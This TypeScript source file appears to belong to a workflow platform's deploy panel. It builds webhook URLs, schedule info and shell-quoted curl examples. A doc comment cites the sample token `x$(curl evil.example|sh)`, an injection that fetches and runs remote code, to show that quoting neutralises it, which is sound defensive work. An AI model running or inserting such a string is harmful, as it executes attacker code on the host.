import { checkDeployable, normalizeWebhookPath, referenceName, scheduleTriggers, STREAMING_BLOCK_TYPES, webhookTriggers, type DeployableState, type DeployProblem, type TriggerSchedule } from '@weft/catalog';
import type { WorkflowState } from '@weft/workflow';
import { schedulePlan } from '../panels/fields/schedule';

/** What the deploy panel shows of a draft: what keeps it from deploying, and the triggers it deploys with. */
export interface DeployInfo {
  problems: DeployProblem[];
  /**
   * Every webhook the draft listens on (its starter, each webhook block), each on its own path;
   * `starter` marks the starter's, the one hasActiveWebhook switches (spec 000 §4).
   */
  webhooks: Array<{ blockId: string; blockName: string; url: string; secret: string; provider: string; starter: boolean }>;
  /**
   * Every schedule the draft deploys with (its starter in schedule mode, each schedule block; one Temporal
   * Schedule each), as the server will create it (`plan`; `cron` as GET /api/schedules shows it), or why it cannot be.
   */
  schedules: Array<{ blockId: string; blockName: string; cron?: string; plan?: TriggerSchedule; timezone: string; error?: string }>;
}

/**
 * The URL a webhook path is called at under `base` (an origin): the path as stored (normalizeWebhookPath:
 * trimmed, no slash at either end), each "/"-separated segment escaped on its own, so a nested path
 * keeps its slashes (`orders/new`, not `orders%2Fnew`) and the gateway decodes each segment. The one
 * helper for the deploy panel and the block forms (starter and webhook block), so both show the same URL.
 */
export function webhookUrl(base: string, path: string): string {
  return `${base}/api/webhooks/trigger/${normalizeWebhookPath(path).split('/').map(encodeURIComponent).join('/')}`;
}

/**
 * The deploy panel's view of a draft, with webhook URLs under `origin`. The loop and parallel lists go
 * with the blocks, as the server's deploy check takes them (`assertDeployable`): a block placed in a
 * container by a list only (no `data.parentId`) is read inside it here too, so the panel and a deploy agree.
 */
export function deployInfo(state: Pick<WorkflowState, 'blocks' | 'edges' | 'variables' | 'loops' | 'parallels'>, origin: string, now = new Date()): DeployInfo {
  const json = JSON.parse(JSON.stringify({ blocks: state.blocks, edges: state.edges, variables: state.variables, loops: state.loops, parallels: state.parallels })) as DeployableState & { blocks: Record<string, unknown> };
  const problems = checkDeployable(json, now);
  return {
    problems,
    webhooks: webhookTriggers(json.blocks).map(({ blockId, path, secret, provider }) => ({
      blockId,
      blockName: state.blocks[blockId]?.name ?? blockId,
      url: webhookUrl(origin, path),
      secret,
      provider,
      starter: state.blocks[blockId]?.type === 'starter',
    })),
    schedules: scheduleTriggers(json.blocks).map(({ blockId, fields }) => {
      const given = fields as Record<string, unknown>;
      const plan = schedulePlan(given, now);
      const timezone = typeof given.timezone === 'string' && given.timezone ? given.timezone : 'UTC';
      const blockName = state.blocks[blockId]?.name ?? blockId;
      return { blockId, blockName, timezone, ...('schedule' in plan ? { cron: plan.schedule.cronExpression, plan: plan.schedule } : { error: plan.error }) };
    }),
  };
}

/** The enabled blocks of a draft whose model tokens can stream (agent, translate, vision), in the draft's order. */
export function streamingBlocks(state: Pick<WorkflowState, 'blocks'>): Array<{ id: string; name: string }> {
  return Object.values(state.blocks)
    .filter((b) => b.enabled !== false && STREAMING_BLOCK_TYPES.has(b.type))
    .map((b) => ({ id: b.id, name: b.name }));
}

/** A value as one POSIX shell word: single-quoted, each `'` written `'\''` (nothing inside is expanded: `$`, backticks, `"`). */
export function shellQuote(value: string): string {
  return `'${value.replaceAll("'", "'\\''")}'`;
}

/**
 * The curl call that runs the deployed workflow with its API key; with `streamed` block names, a
 * streamed run (`stream: true`) whose `selectedOutputs` are those blocks' content, as references write them.
 * Every value is single-quoted for the shell (a name or input with `'`, `$` or backticks stays text).
 */
export function curlExample(origin: string, workflowId: string, apiKey: string, input: Record<string, unknown> = {}, streamed: readonly string[] = []): string {
  const body = streamed.length > 0 ? { ...input, stream: true, selectedOutputs: streamed.map((name) => `${referenceName(name)}.content`) } : input;
  return [
    `curl -X POST ${shellQuote(`${origin}/api/workflows/${workflowId}/execute`)} \\`,
    `  -H 'Content-Type: application/json' \\`,
    `  -H ${shellQuote(`X-API-Key: ${apiKey}`)} \\`,
    ...(streamed.length > 0 ? ['  -N \\'] : []),
    `  -d ${shellQuote(JSON.stringify(body))}`,
  ].join('\n');
}

/** What the webhook curl example shows in place of the token (the copied command has the token itself). */
export const MASKED_TOKEN = '••••••••';

/**
 * A test call of a generic webhook, with its token as the bearer when it has one; other providers
 * sign their deliveries (GitHub, Slack, Stripe, …), which a hand-written call cannot, so they get none.
 * Every value is single-quoted for the shell, so a token such as `x$(curl evil.example|sh)` is sent as
 * text and never run. `masked`: the token written as {@link MASKED_TOKEN}, for showing (the dialog masks
 * the secret); the copied command is the unmasked one.
 */
export function webhookCurlExample(hook: { url: string; secret: string; provider: string }, masked = false): string | undefined {
  if (hook.provider !== 'generic') return undefined;
  const token = masked ? MASKED_TOKEN : hook.secret;
  return [
    `curl -X POST ${shellQuote(hook.url)} \\`,
    `  -H 'Content-Type: application/json' \\`,
    ...(hook.secret ? [`  -H ${shellQuote(`Authorization: Bearer ${token}`)} \\`] : []),
    `  -d ${shellQuote('{"event":"test"}')}`,
  ].join('\n');
}

/**
 * The path a new webhook block takes: the workflow id, or `<workflow id>-<block id>` when another
 * webhook of the workflow already listens there (each webhook of a deployed workflow needs its own).
 */
export function defaultWebhookPath(blocks: WorkflowState['blocks'], workflowId: string, blockId: string): string {
  const json = JSON.parse(JSON.stringify(blocks)) as Record<string, unknown>;
  const taken = webhookTriggers(json).some((w) => w.blockId !== blockId && w.path === workflowId);
  return taken ? `${workflowId}-${blockId}` : workflowId;
}
